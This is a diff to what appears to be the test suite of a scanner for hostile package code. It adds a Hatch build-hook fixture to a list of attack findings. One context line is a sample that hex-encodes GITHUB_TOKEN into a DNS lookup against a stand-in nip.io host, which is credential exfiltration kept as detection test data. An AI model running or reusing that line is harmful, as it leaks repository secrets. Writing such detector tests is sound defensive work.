@@ -128,7 +128,11 @@ const SECRETS_SENT: FindingRow[] = [
   ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
 ];
 
+/** Hatch's build hook (`hatch_build.py` beside pyproject.toml), which `pip install .` runs: a build file by name. */
+const BUILD_HOOK_FILES: FindingRow[] = [['hatch_build.py', 'from hatchling.builders.hooks.plugin.interface import BuildHookInterface']];
+
 describeFindings('attack 64', [
+  ['a build hook file by a name the allow-list did not know', closedRows(BUILD_HOOK_FILES)],
   ['a download loaded by a loader that takes a path', closedRows(LOADED_DOWNLOADS)],
   ['a native library written from a fetch, then loaded', [...closedRows(LOADED_NATIVE_DOWNLOADS.slice(0, 1)), ...LOADED_NATIVE_DOWNLOADS.slice(1)]],
   ["another host's output (a DNS record, ssh) run as code", closedRows(HOST_OUTPUT_RUN)],
